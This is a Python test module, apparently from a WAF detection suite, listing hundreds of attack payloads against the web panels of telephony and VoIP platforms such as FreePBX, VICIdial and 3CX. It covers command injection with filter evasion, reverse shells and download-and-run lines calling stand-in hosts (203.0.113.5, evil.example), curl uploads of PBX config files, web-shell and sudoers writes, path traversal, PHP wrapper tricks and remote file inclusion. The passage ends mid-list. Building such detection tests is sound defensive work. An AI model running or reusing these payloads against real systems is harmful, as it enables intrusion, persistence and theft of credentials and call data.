"""Blind set "twohundredtwentyninth": OS command injection, local file inclusion / path traversal and remote file
inclusion aimed at the web front ends of telephony and unified-communications platforms, with benign requests
that carry the same words innocently.

The angle: telecom, VoIP and UC systems, recalled from memory. IP-PBX admin panels (Asterisk with FreePBX,
Issabel, Elastix, 3CX), call-centre suites (VICIdial, GOautodial), SIP provisioning servers and phone
configuration files, voicemail and call-recording portals, CDR and billing reports, SMS and USSD gateways, WebRTC
softphones, Cisco and Avaya management pages, carrier self-care portals and number-porting forms. Each payload
uses the product's own parameter names and quirks (an extension, a trunk name, a recording file name, a MAC
address in a provisioning path, a ping/traceroute diagnostics box) and still reaches the family's real goal: run
a shell or cmd.exe command, read a local file, or include a remote one. Each group carries a short comment naming
the family, the system and its target (shell, cmd.exe, PowerShell, PHP interpreter, product).

Families:
  rce: unix-command-injection, unix-shell-evasion, windows-cmd-injection, powershell, unix-command-with-path,
    reverse-shell, shellshock, downloader-pipe-shell, shell-file-write, restricted-file-in-command
  lfi: path-traversal, os-file-access, absolute-path, null-byte-truncation, php-wrapper-lfi, log-poisoning-target,
    restricted-file-extension
  rfi: url-with-ip-address, url-trailing-question-mark, include-parameter-url, off-domain-reference,
    remote-protocol

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. Payloads written as the product's own `name=value` request
(a FreePBX or VICIdial parameter with its value) go unquoted as raw pairs. Payloads with control characters
(newline, tab) never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, telephony
products as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test or
public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "twohundredtwentyninth"

Entry = str | tuple[str, str, str]
KV = ("form", "rs-raw-body")


def kv(pair: str) -> tuple[str, str, str]:
    """A product's own `name=value` request, sent unquoted as a raw pair."""
    return (pair, *KV)


# ================================================================================================================
# RCE
# ----------------------------------------------------------------------------------------------------------------
# unix-command-injection: separators after an extension, trunk or host in PBX diagnostics (target: /bin/sh
# behind FreePBX/Issabel/Elastix PHP exec(), VICIdial perl system(), GOautodial shell_exec())
UNIX_INJECTION: list[Entry] = [
    "8.8.8.8; id",
    "sip.carrier.net;cat /etc/passwd",
    "1001|id",
    "1001 | whoami",
    "trunk1 || uname -a",
    "127.0.0.1 && cat /etc/asterisk/sip.conf",
    "1002`id`",
    "1002$(id)",
    "10.0.0.1\nid",
    "10.0.0.1%0aid",
    "5551234;/usr/sbin/asterisk -rx 'core show channels'",
    "2001;asterisk -rx \"sip show peers\"",
    "queue500; cat /etc/amportal.conf",
    "700&&cat /etc/freepbx.conf",
    "1.2.3.4 ; ls -la /var/spool/asterisk/monitor",
    "x|cat /etc/astguiclient.conf",
    "$(cat /etc/issabel.conf)",
    "`cat /etc/elastix.conf`",
    "8001;id;#",
    "sipgw;sleep 10;",
    "1000 && ping -c 5 127.0.0.1",
    "a;uname -a;b",
    "ext1001|nslookup x.oast.example",
    "20240601;ps aux|grep asterisk",
    "192.168.1.10 | netstat -an",
    "voip.example.net`sleep 5`",
    "|| cat /etc/shadow",
    "; cat /var/lib/asterisk/astdb.sqlite3",
    kv("ping_ip=8.8.8.8;id"),
    kv("phone_number=5551234|id"),
    kv("extension=1001;cat /etc/passwd"),
    kv("file=monitor.wav;id"),
]

# unix-shell-evasion: quotes, ${IFS}, globbing, brace expansion and variables that keep a blacklist on the
# diagnostics box blind (target: /bin/sh / bash behind an IP-PBX or SBC web panel)
UNIX_EVASION: list[Entry] = [
    ";c'a't${IFS}/etc/passwd",
    ";ca\"t\"${IFS}/etc/passwd",
    "|c\\at${IFS}/e\\tc/pa\\sswd",
    ";cat$IFS/etc/passwd",
    ";{cat,/etc/passwd}",
    ";/???/c?t /???/p?ss??",
    "|/b??/c?t${IFS}/e??/p*d",
    ";w'h'o'a'm'i",
    ";wh$@oami",
    ";i$()d",
    "$(printf${IFS}'\\x69\\x64')",
    ";a=ca;b=t;$a$b /etc/passwd",
    ";x=/etc/asterisk;cat${IFS}$x/manager.conf",
    "`echo${IFS}aWQ=|base64${IFS}-d|sh`",
    ";echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|bash",
    ";${PATH:0:1}bin${PATH:0:1}id",
    "|cat${IFS%??}/etc/asterisk/voicemail.conf",
    ";{ls,-la,/var/spool/asterisk/voicemail}",
    ";$(echo cm0gLXJmIC90bXAveA==|base64 -d)",
    "';id;'",
    "\";id;\"",
    ";un\\ame -a",
    ";/bin/c[a]t /etc/pass[w]d",
    "|tac</etc/passwd",
    ";cat</etc/asterisk/extensions.conf",
    "1001;IFS=,;`cat<<<cat,/etc/passwd`",
    ";$'\\x63\\x61\\x74' /etc/passwd",
    ";rev<<<'dwssap/cte/ tac'|sh",
    "a;/u?r/b?n/i?",
    ";X=$'\\x20';cat${X}/etc/hosts",
]

# windows-cmd-injection: & | && || against a Windows-hosted 3CX, Avaya or Cisco CUCM tool box (target: cmd.exe)
WIN_CMD: list[Entry] = [
    "127.0.0.1 & whoami",
    "127.0.0.1 && type C:\\Windows\\win.ini",
    "1001 | dir C:\\ProgramData\\3CX",
    "sip.example.com || net user",
    "& ipconfig /all",
    "| type C:\\ProgramData\\3CX\\Instance1\\Bin\\3CXPhoneSystem.ini",
    "&& net localgroup administrators",
    "1.1.1.1 & ver",
    "x & tasklist /v",
    "x | systeminfo",
    "8.8.8.8 & ping -n 10 127.0.0.1",
    "a&&whoami /priv",
    "%0a whoami",
    "& cmd.exe /c dir c:\\",
    "| cmd /c type c:\\boot.ini",
    "& certutil -urlcache -split -f http://203.0.113.5/s.exe %TEMP%\\s.exe",
    "& bitsadmin /transfer j http://203.0.113.5/a.exe C:\\Users\\Public\\a.exe",
    "&echo %USERNAME%",
    "& reg query HKLM\\SOFTWARE\\3CXPhoneSystem",
    "| wmic process list brief",
    "& net user pbxadmin P@ss123 /add",
    "&& sc query state= all",
    "& w^h^o^a^m^i",
    "& set",
    "& type %SystemRoot%\\system32\\drivers\\etc\\hosts",
    kv("host=10.1.1.1&whoami"),
]

# powershell: from the same Windows call-manager boxes (target: PowerShell)
POWERSHELL: list[Entry] = [
    "& powershell -c Get-Process",
    "| powershell.exe -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')\"",
    "& powershell -enc dwBoAG8AYQBtAGkA",
    "; powershell Invoke-WebRequest http://203.0.113.5/x.ps1 -OutFile C:\\Users\\Public\\x.ps1",
    "& powershell -ep bypass -c \"iwr http://198.51.100.7/p.ps1|iex\"",
    "| powershell Get-Content C:\\ProgramData\\3CX\\Instance1\\Bin\\3CXPhoneSystem.ini",
    "& powershell -c \"Get-ChildItem -Recurse C:\\Avaya\"",
    "& powershell Start-Process calc.exe",
    "| pwsh -c 'Get-LocalUser'",
    "& powershell -noprofile -c [System.Net.Dns]::GetHostAddresses('x.oast.example')",
    "& powershell -c \"$c=New-Object Net.Sockets.TCPClient('203.0.113.5',4444)\"",
    "&& powershell Set-MpPreference -DisableRealtimeMonitoring $true",
    "& powershell -w hidden -c Invoke-Expression(Get-Content \\\\203.0.113.5\\s\\r.ps1)",
    "| powershell -c Get-WmiObject Win32_Service",
    "& powershell -c \"Add-MpPreference -ExclusionPath C:\\ProgramData\\3CX\"",
    "& powershell Remove-Item -Recurse -Force C:\\inetpub\\logs",
    "& powershell.exe -ExecutionPolicy Bypass -File \\\\198.51.100.7\\share\\p.ps1",
    "; powershell -c \"[Convert]::ToBase64String([IO.File]::ReadAllBytes('C:\\Windows\\win.ini'))\"",
]

# unix-command-with-path: absolute program paths on a Linux PBX (target: /bin/sh on Asterisk/VICIdial hosts)
UNIX_PATHS: list[Entry] = [
    ";/bin/cat /etc/passwd",
    "|/usr/bin/id",
    ";/usr/bin/whoami",
    "&&/bin/ls -la /etc/asterisk",
    "`/usr/bin/uname -a`",
    "$(/bin/hostname)",
    ";/usr/bin/wget http://203.0.113.5/x -O /tmp/x",
    ";/sbin/ifconfig",
    "|/usr/sbin/asterisk -rx 'dialplan show'",
    ";/bin/bash -c id",
    ";/bin/sh -c 'cat /etc/asterisk/manager.conf'",
    ";/usr/bin/python3 -c 'import os;os.system(\"id\")'",
    ";/usr/bin/perl -e 'system(\"id\")'",
    "|/usr/bin/php -r 'system(\"id\");'",
    ";/usr/share/astguiclient/AST_update.pl --help",
    ";/usr/bin/mysql -e 'select user,pass from vicidial_users' asterisk",
    ";/usr/bin/find / -name sip.conf",
    ";/bin/netstat -tulpn",
    ";/usr/bin/crontab -l",
    ";/bin/ps -ef",
    "&&/usr/bin/sudo -l",
    ";/usr/sbin/fwconsole chown",
    "|/usr/bin/nmap -sU -p5060 10.0.0.0/24",
    ";/usr/bin/tcpdump -i any port 5060 -w /tmp/sip.pcap",
]

# reverse-shell: the PBX host calls the tester back (target: bash, nc, python, perl, socat, php on the PBX)
REVERSE: list[Entry] = [
    ";bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "|bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'",
    ";nc -e /bin/sh 203.0.113.5 4444",
    ";nc 203.0.113.5 4444 -e /bin/bash",
    ";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f",
    ";ncat 203.0.113.5 4444 -e /bin/sh",
    ";python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.5\",4444));"
    "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])'",
    ";python3 -c 'import pty,socket,os;s=socket.socket();s.connect((\"203.0.113.5\",53));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'",
    ";perl -e 'use Socket;$i=\"203.0.113.5\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
    ";socat tcp-connect:203.0.113.5:4444 exec:/bin/bash,pty,stderr,setsid",
    ";socat exec:'bash -li',pty,stderr tcp:198.51.100.7:5060",
    ";php -r '$s=fsockopen(\"203.0.113.5\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    ";0<&196;exec 196<>/dev/tcp/203.0.113.5/4444; sh <&196 >&196 2>&196",
    ";exec 5<>/dev/tcp/203.0.113.5/4444;cat <&5|while read l;do $l 2>&5 >&5;done",
    ";telnet 203.0.113.5 4444 | /bin/bash | telnet 203.0.113.5 4445",
    ";awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.5/4444\";while(1){s|&getline c;while((c|&getline)>0)print|&s;"
    "close(c)}}'",
    ";ruby -rsocket -e 'exit if fork;c=TCPSocket.new(\"203.0.113.5\",\"4444\");"
    "loop{c.gets.chomp!;IO.popen($_,\"r\"){|io|c.print io.read}}'",
    "$(bash -i >& /dev/udp/203.0.113.5/5060 0>&1)",
    ";sh -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    ";busybox nc 203.0.113.5 4444 -e sh",
]

# shellshock: bash function definitions in headers and CGI fields of old Elastix/trixbox CGI and phone web UIs
# (target: bash < 4.3 via CGI)
SHELLSHOCK: list[Entry] = [
    "() { :; }; /bin/bash -c 'cat /etc/passwd'",
    "() { :;}; echo; /usr/bin/id",
    "() { _; } >_[$($())] { /bin/id; }",
    "() { :; }; /bin/bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "() { :;}; /usr/bin/wget http://203.0.113.5/s -O /tmp/s",
    "() { ignored; }; /bin/cat /etc/asterisk/sip.conf",
    "() { :; }; echo Content-Type: text/plain; echo; /bin/uname -a",
    "() { :;}; /bin/sleep 20",
    "() { x;};ping -c 3 203.0.113.5",
    "() { :; }; /usr/sbin/asterisk -rx 'core show version'",
    "() { (a)=>\\' bash -c \"echo date\"",
    "() { :; }; curl http://x.oast.example/$(id|base64)",
    "() { :;}; /bin/nc -e /bin/sh 203.0.113.5 4444",
    "() { 0; }; /bin/ls /var/www/html/admin",
]

# downloader-pipe-shell: fetch and run a stage from the PBX (target: sh via curl/wget/fetch/tftp)
DOWNLOADER: list[Entry] = [
    ";curl http://203.0.113.5/x.sh|sh",
    "|wget -qO- http://203.0.113.5/p|bash",
    "$(curl -s http://198.51.100.7/a.sh | bash)",
    "`wget http://203.0.113.5/m -O /tmp/m;chmod +x /tmp/m;/tmp/m`",
    ";curl -o /var/www/html/s.php http://203.0.113.5/s.txt",
    ";wget http://203.0.113.5/s.txt -O /var/www/html/admin/modules/s.php",
    ";cd /tmp;tftp -g -r mips 203.0.113.5;chmod 777 mips;./mips",
    ";curl -fsSL https://evil.example/pbx.sh | sudo sh",
    "&&wget -q -O - http://203.0.113.5/k | sh -s",
    ";curl http://203.0.113.5/b64|base64 -d|sh",
    ";fetch -o - http://203.0.113.5/x | sh",
    ";lwp-download http://203.0.113.5/x /tmp/x",
    ";curl -d @/etc/asterisk/sip.conf http://203.0.113.5/c",
    ";curl -F f=@/etc/freepbx.conf http://203.0.113.5/u",
    ";wget --post-file=/etc/passwd http://203.0.113.5/",
    ";busybox wget http://203.0.113.5/arm7 -O /tmp/a;sh /tmp/a",
    ";python -c \"import urllib;exec(urllib.urlopen('http://203.0.113.5/p').read())\"",
    "|curl 203.0.113.5:8000/s|bash",
]

# shell-file-write: echo / tee / printf drop a web shell into the PBX document root (target: sh, then PHP)
FILE_WRITE: list[Entry] = [
    ";echo '<?php system($_GET[c]);?>' > /var/www/html/c.php",
    ";echo PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs= | base64 -d > /var/www/html/admin/x.php",
    "|tee /var/www/html/recordings/s.php <<< '<?php passthru($_REQUEST[x]);?>'",
    ";printf '<?php eval($_POST[p]);?>' >> /var/www/html/index.php",
    ";echo 'asterisk ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
    ";echo 'ssh-rsa AAAAB3NzaC1yc2E tester' >> /root/.ssh/authorized_keys",
    ";echo '* * * * * root bash -i >& /dev/tcp/203.0.113.5/4444 0>&1' > /etc/cron.d/p",
    ";echo 'exten => _X.,1,System(id)' >> /etc/asterisk/extensions_custom.conf",
    ";cp /etc/passwd /var/www/html/p.txt",
    ";cat /etc/asterisk/sip.conf > /var/www/html/recordings/sip.txt",
    "$(echo '<?=`$_GET[0]`?>' > /var/www/html/vicidial/x.php)",
    ";echo hacked > /var/www/html/index.html",
    "|tee -a /etc/passwd <<< 'r00t::0:0::/root:/bin/bash'",
    ";touch /var/www/html/pwned",
    ";dd if=/etc/shadow of=/var/www/html/s.txt",
    ";echo ZXhlYyAvYmluL3No>/tmp/.x;sh /tmp/.x",
]

# restricted-file-in-command: commands that read files a PBX web user never should (target: sh)
RESTRICTED_CMD: list[Entry] = [
    ";cat /etc/shadow",
    ";head /etc/passwd",
    "|more /etc/group",
    ";less /etc/asterisk/manager.conf",
    ";tail -n 50 /var/log/asterisk/full",
    ";strings /etc/asterisk/voicemail.conf",
    ";grep secret /etc/asterisk/sip_additional.conf",
    ";nl /etc/issue",
    ";od -c /etc/hostname",
    ";xxd /root/.ssh/id_rsa",
    ";base64 /etc/shadow",
    ";cat /root/.bash_history",
    ";cat /proc/self/environ",
    ";cat /proc/version",
    ";sort /etc/passwd",
    ";awk -F: '{print $1}' /etc/passwd",
    ";sed -n 1,20p /etc/amportal.conf",
    ";vi -c ':!id' /etc/hosts",
    "|cat ~/.my.cnf",
    ";cat /home/asterisk/.ssh/id_rsa",
]

RCE = [
    ("rce", "unix-command-injection", UNIX_INJECTION),
    ("rce", "unix-shell-evasion", UNIX_EVASION),
    ("rce", "windows-cmd-injection", WIN_CMD),
    ("rce", "powershell", POWERSHELL),
    ("rce", "unix-command-with-path", UNIX_PATHS),
    ("rce", "reverse-shell", REVERSE),
    ("rce", "shellshock", SHELLSHOCK),
    ("rce", "downloader-pipe-shell", DOWNLOADER),
    ("rce", "shell-file-write", FILE_WRITE),
    ("rce", "restricted-file-in-command", RESTRICTED_CMD),
]


# ================================================================================================================
# LFI
# ----------------------------------------------------------------------------------------------------------------
# path-traversal: ../ and ..\ in every encoding through a recording, voicemail or provisioning file parameter
# (target: PHP readfile()/include in FreePBX recordings, VICIdial audio store, TFTP/HTTP provisioning servers)
TRAVERSAL: list[Entry] = [
    "../../../../etc/passwd",
    "../../../../../../etc/asterisk/sip.conf",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/amportal.conf",
    "..%252f..%252f..%252fetc%252fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fshadow",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "..%c1%9c..%c1%9cwindows%c1%9cwin.ini",
    "....//....//....//etc/passwd",
    "..././..././..././etc/freepbx.conf",
    "..\\..\\..\\..\\windows\\win.ini",
    "..%5c..%5c..%5cProgramData%5c3CX%5cInstance1%5cBin%5c3CXPhoneSystem.ini",
    "%2e%2e%5c%2e%2e%5cboot.ini",
    "..%u2215..%u2215etc%u2215passwd",
    "%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd",
    "2024/06/01/../../../../../etc/passwd",
    "out-1001-5551234-20240601-101010.wav/../../../../etc/passwd",
    "/var/spool/asterisk/monitor/../../../../etc/shadow",
    "/var/spool/asterisk/voicemail/default/1001/INBOX/../../../../../../etc/passwd",
    "cfg0004f2aabbcc.xml/../../../../etc/passwd",
    "..;/..;/..;/etc/passwd",
    "..//..//..//..//etc//passwd",
    "../../../../../../../../../../../../etc/hosts",
    "..\\/..\\/..\\/etc/passwd",
    "%2e%2e%2f" * 6 + "etc%2fissue",
    "/..%2f..%2f..%2f..%2fvar/lib/asterisk/astdb.sqlite3",
    "..%00/..%00/etc/passwd",
    kv("file=../../../../etc/passwd"),
    kv("recordingfile=../../../../etc/asterisk/manager.conf"),
    kv("audio_file=../../../../../etc/passwd"),
    kv("mac=../../../etc/passwd"),
]

# os-file-access: the files a compromised PBX web front end is asked to return (target: the PBX host's files)
OS_FILES: list[Entry] = [
    "/etc/passwd",
    "/etc/shadow",
    "/proc/self/environ",
    "/proc/self/cmdline",
    "/proc/self/fd/0",
    "/proc/self/status",
    "/proc/1/maps",
    "/etc/hosts",
    "/etc/issue",
    "C:\\Windows\\win.ini",
    "c:/boot.ini",
    "C:\\inetpub\\wwwroot\\web.config",
    "../web.config",
    "../../.htaccess",
    "../../.htpasswd",
    "../../../.git/config",
    "../.git/HEAD",
    "../../.env",
    "/root/.ssh/id_rsa",
    "/home/asterisk/.ssh/id_rsa",
    "/var/lib/asterisk/.ssh/authorized_keys",
    "/etc/ssh/sshd_config",
    "/etc/mysql/my.cnf",
    "/root/.mysql_history",
    "C:\\Windows\\System32\\config\\SAM",
    "C:\\Windows\\repair\\sam",
    "/proc/self/cwd/config.php",
    "/etc/crontab",
]

# absolute-path: the telephony product's own secrets by absolute path (target: FreePBX/Issabel/VICIdial/3CX files)
ABSOLUTE: list[Entry] = [
    "/etc/asterisk/sip.conf",
    "/etc/asterisk/manager.conf",
    "/etc/asterisk/voicemail.conf",
    "/etc/asterisk/pjsip.endpoint.conf",
    "/etc/asterisk/sip_additional.conf",
    "/etc/asterisk/extensions_additional.conf",
    "/etc/amportal.conf",
    "/etc/freepbx.conf",
    "/etc/elastix.conf",
    "/etc/issabel.conf",
    "/etc/astguiclient.conf",
    "/var/www/html/admin/config.php",
    "/var/www/html/vicidial/dbconnect_mysqli.php",
    "/var/www/html/agc/dbconnect.php",
    "/var/lib/asterisk/astdb.sqlite3",
    "/var/log/asterisk/queue_log",
    "/tftpboot/SEP001122334455.cnf.xml",
    "/tftpboot/0004f2aabbcc.cfg",
    "C:\\ProgramData\\3CX\\Instance1\\Bin\\3CXPhoneSystem.ini",
    "C:/Program Files/3CX Phone System/Bin/3CXPhoneSystem.ini",
    "/opt/kamailio/etc/kamailio/kamctlrc",
    "/etc/kamailio/kamailio.cfg",
    "/etc/opensips/opensips.cfg",
    "/usr/local/freeswitch/conf/vars.xml",
    "/etc/freeswitch/autoload_configs/event_socket.conf.xml",
    "file:///etc/asterisk/iax.conf",
    kv("recording=/etc/asterisk/sip.conf"),
    kv("filename=/var/spool/asterisk/voicemail/default/1001/INBOX/msg0000.wav/../../../../../../etc/passwd"),
]

# null-byte-truncation: %00 and long-path tricks that cut the appended .wav/.xml/.php off (target: PHP < 5.3.4
# on old Elastix/trixbox/GOautodial, and Windows path normalisation on 3CX)
NULL_BYTE: list[Entry] = [
    "../../../../etc/passwd%00",
    "../../../../etc/passwd%00.wav",
    "../../../../etc/asterisk/sip.conf%00.gsm",
    "/etc/passwd\x00.xml",
    "../../../etc/shadow%00.cfg",
    "..%2f..%2f..%2fetc%2fpasswd%00.mp3",
    "../../../../etc/amportal.conf%2500",
    "../../../../../etc/passwd" + "/." * 80,
    "../../../../etc/passwd" + "." * 120,
    "..\\..\\..\\windows\\win.ini%00.ini",
    "../../../../var/log/asterisk/full%00",
    "/etc/passwd%00index.html",
    "lang=../../../../../etc/passwd%00",
    "../../../etc/hosts\x00",
    "../../../../proc/self/environ%00.php",
    "/etc/issabel.conf%00.png",
    "....//....//etc/passwd%00.txt",
    "../../../../etc/elastix.conf\\0",
    "../../../../etc/passwd%00%00",
    "../../../../etc/freepbx.conf;.wav",
    "../../../../etc/passwd?.wav",
    "../../../../etc/passwd#.wav",
]

# php-wrapper-lfi: PHP stream wrappers through a FreePBX/Issabel/VICIdial include parameter (target: PHP include)
WRAPPERS: list[Entry] = [
    "php://filter/convert.base64-encode/resource=/etc/freepbx.conf",
    "php://filter/read=convert.base64-encode/resource=../admin/config.php",
    "php://filter/convert.base64-encode/resource=dbconnect_mysqli.php",
    "php://filter/string.rot13/resource=/etc/amportal.conf",
    "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/asterisk/manager.conf",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd",
    "PhP://FilTer/convert.base64-encode/resource=index.php",
    "php://input",
    "php://fd/3",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "data:text/plain,<?php system('id');?>",
    "expect://id",
    "expect://cat /etc/asterisk/sip.conf",
    "zip://../../var/spool/asterisk/tmp/upload.zip%23shell.php",
    "phar:///var/lib/asterisk/sounds/custom/greeting.wav/x.php",
    "phar://../recordings/avatar.jpg/shell",
    "compress.zlib:///etc/passwd",
    "glob:///var/spool/asterisk/monitor/*",
    "file:///etc/passwd",
    "php://filter/resource=/etc/issabel.conf",
    kv("display=php://filter/convert.base64-encode/resource=config.php"),
    kv("module=php://input"),
]

# log-poisoning-target: logs a tester first poisons through SIP User-Agent or a failed login, then includes
# (target: PHP include of web-server, Asterisk, SSH and mail logs on the PBX)
LOG_TARGETS: list[Entry] = [
    "/var/log/httpd/access_log",
    "/var/log/httpd/error_log",
    "/var/log/apache2/access.log",
    "/var/log/nginx/access.log",
    "/var/log/asterisk/messages",
    "/var/log/asterisk/full",
    "/var/log/asterisk/security",
    "/var/log/asterisk/freepbx.log",
    "/var/log/secure",
    "/var/log/auth.log",
    "/var/log/maillog",
    "/var/log/fail2ban.log",
    "/proc/self/fd/2",
    "/proc/self/fd/10",
    "/var/lib/php/session/sess_abc123",
    "/tmp/sess_5f3a18c0e3b2",
    "../../../../var/log/httpd/access_log",
    "../../../../../var/log/asterisk/full",
    "/var/log/astguiclient/screenlog.0",
    "C:\\ProgramData\\3CX\\Instance1\\Data\\Logs\\3CXPhoneSystem.log",
    "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240601.log",
    "/usr/local/apache/logs/access_log",
]

# restricted-file-extension: backups and configs a PBX web root leaves lying about (target: the web server)
EXTENSIONS: list[Entry] = [
    "config.php.bak",
    "admin/config.php.old",
    "freepbx.conf.bak",
    "amportal.conf.save",
    "dbconnect_mysqli.php~",
    "sip.conf.orig",
    "backup/asterisk.sql",
    "asteriskcdrdb.sql.gz",
    "vicidial_backup.sql",
    "web.config",
    "3CXPhoneSystem.ini",
    "settings.inc.php.bak",
    "provisioning/phones.csv.old",
    "admin/modules/backup/backup.tar.gz",
    ".env.bak",
    "database.yml",
    "config.ini",
    "voicemail.conf.swp",
    "/var/www/html/.config",
    "index.php.dist",
    "db.mdb",
    "endpoint.conf.tmp",
]

LFI = [
    ("lfi", "path-traversal", TRAVERSAL),
    ("lfi", "os-file-access", OS_FILES),
    ("lfi", "absolute-path", ABSOLUTE),
    ("lfi", "null-byte-truncation", NULL_BYTE),
    ("lfi", "php-wrapper-lfi", WRAPPERS),
    ("lfi", "log-poisoning-target", LOG_TARGETS),
    ("lfi", "restricted-file-extension", EXTENSIONS),
]

# ================================================================================================================
# RFI
# ----------------------------------------------------------------------------------------------------------------
# url-with-ip-address: an include or provisioning-URL parameter pointed at a bare IP (target: PHP include with
# allow_url_include, and phones fetching config from the provisioning server they are told)
RFI_IP: list[Entry] = [
    "http://203.0.113.5/shell.txt",
    "http://198.51.100.7/c99.txt",
    "http://203.0.113.5:8080/r.php",
    "https://192.0.2.44/x.txt",
    "http://0xcb007105/s.txt",
    "http://3405803781/s.txt",
    "http://[::ffff:203.0.113.5]/s.txt",
    "http://203.0.113.5/cfg0004f2aabbcc.xml",
    "tftp://203.0.113.5/SEP001122334455.cnf.xml",
    "http://203.0.113.5/provisioning/y000000000000.cfg",
    "http://10.0.0.66/phpshell.php",
    "http://127.0.0.1:8088/ari/channels",
    "http://169.254.169.254/latest/meta-data/",
    "http://203.0.113.5/vicidial/agc/x.txt",
    kv("prov_url=http://203.0.113.5/cfg"),
    kv("include=http://198.51.100.7/s.txt"),
    kv("server_url=http://203.0.113.5/x"),
    "http://203.0.113.5/%2e%2e/s.txt",
    "http://0203.0.0161.05/s.txt",
    "//203.0.113.5/s.txt",
    "http://203.0.113.5/greeting.wav.php",
    "http://203.0.113.5/a.php?",
]

# url-trailing-question-mark: the trailing ? turns the product's appended ".php"/".inc"/".xml" into a query string
# (target: PHP include)
RFI_QMARK: list[Entry] = [
    "http://evil.example/shell.txt?",
    "https://attacker.example/r57.txt?",
    "http://203.0.113.5/x?",
    "http://pbxpwn.example/s.txt??",
    "http://evil.example/s.txt?ext=",
    "ftp://evil.example/s.txt?",
    "http://evil.example/modules/s.txt?module=",
    "http://evil.example/c.txt?&lang=",
    "http://evil.example/c.txt%3f",
    "http://evil.example/c.txt%253f",
    "http://evil.example/x.txt%00",
    "http://evil.example/x.txt#",
    "http://evil.example:80/x.txt?",
    "https://raw.evil.example/cmd.txt?",
    "http://evil.example/shell.gif?",
    "http://evil.example/index?cmd=id&",
    kv("display=http://evil.example/s.txt?"),
    kv("lang=http://203.0.113.5/x.txt?"),
    "http://evil.example/s.txt?.wav",
    "http://evil.example/provision.cfg?",
]

# include-parameter-with-url: the product's own include/page/template/path parameters (target: PHP include in
# FreePBX module loaders, Elastix menu=, VICIdial/GOautodial page, old trixbox/AsteriskNOW templates)
RFI_PARAM: list[Entry] = [
    kv("page=http://evil.example/s.txt"),
    kv("file=http://evil.example/s.txt"),
    kv("template=http://evil.example/t.txt"),
    kv("include=http://evil.example/inc.txt"),
    kv("path=http://evil.example/"),
    kv("menu=http://evil.example/x.txt"),
    kv("module=http://evil.example/x.txt"),
    kv("type=http://evil.example/x.txt"),
    kv("load=http://evil.example/x.txt"),
    kv("inc=http://evil.example/x.txt"),
    kv("theme=http://evil.example/t"),
    kv("skin=http://evil.example/x"),
    kv("base_path=http://evil.example/"),
    kv("root_path=http://evil.example/"),
    kv("amp_conf[AMPWEBROOT]=http://evil.example/"),
    kv("config_file=http://evil.example/c.txt"),
    kv("conf=http://evil.example/c"),
    kv("tpl=http://evil.example/t.tpl"),
    kv("lang_file=http://evil.example/l.txt"),
    kv("ADODB_DIR=http://evil.example/"),
    "?page=http://evil.example/s.txt",
    "/index.php?menu=http://203.0.113.5/x",
    "/admin/config.php?display=http://evil.example/s.txt",
    "/vicidial/admin.php?ADD=http://evil.example/s.txt",
]

# off-domain-reference: a link or URL field pointed off the platform (target: the portal's server-side fetch of
# MOH streams, ringtones, phone firmware, call-recording webhooks; PHP include)
RFI_OFFDOMAIN: list[Entry] = [
    "http://evil.example/moh.php",
    "https://attacker.example/ringtone.php",
    "http://pastebin.example/raw/AbCd1234",
    "https://gist.example/u/abc/raw/shell.php",
    "http://evil.example/firmware/SIP-T46S.rom.php",
    "https://evil.example/webhook.php",
    "http://xn--80ak6aa92e.example/s.txt",
    "http://evil.example@203.0.113.5/s.txt",
    "http://pbx.example.com.evil.example/s.txt",
    "hTTp://EviL.example/s.TXT",
    "http:/\\evil.example/s.txt",
    "http:\\\\evil.example\\s.txt",
    "https://evil.example/.well-known/s.txt",
    "http://evil.example/%73hell.txt",
    "http://evil.example/shell.txt%23",
    "http://x.oast.example/a",
    "https://ngrok.example/s.php",
    "http://evil.example/agc/vicidial.php",
    "http://evil.example/../../s.txt",
    "http://evil.example/recording.wav.php",
]

# protocols: ftp://, smb://, UNC shares, data:, expect: and friends (target: PHP include and wrappers, Windows
# path handling on 3CX/Avaya hosts)
RFI_PROTO: list[Entry] = [
    "ftp://203.0.113.5/s.txt",
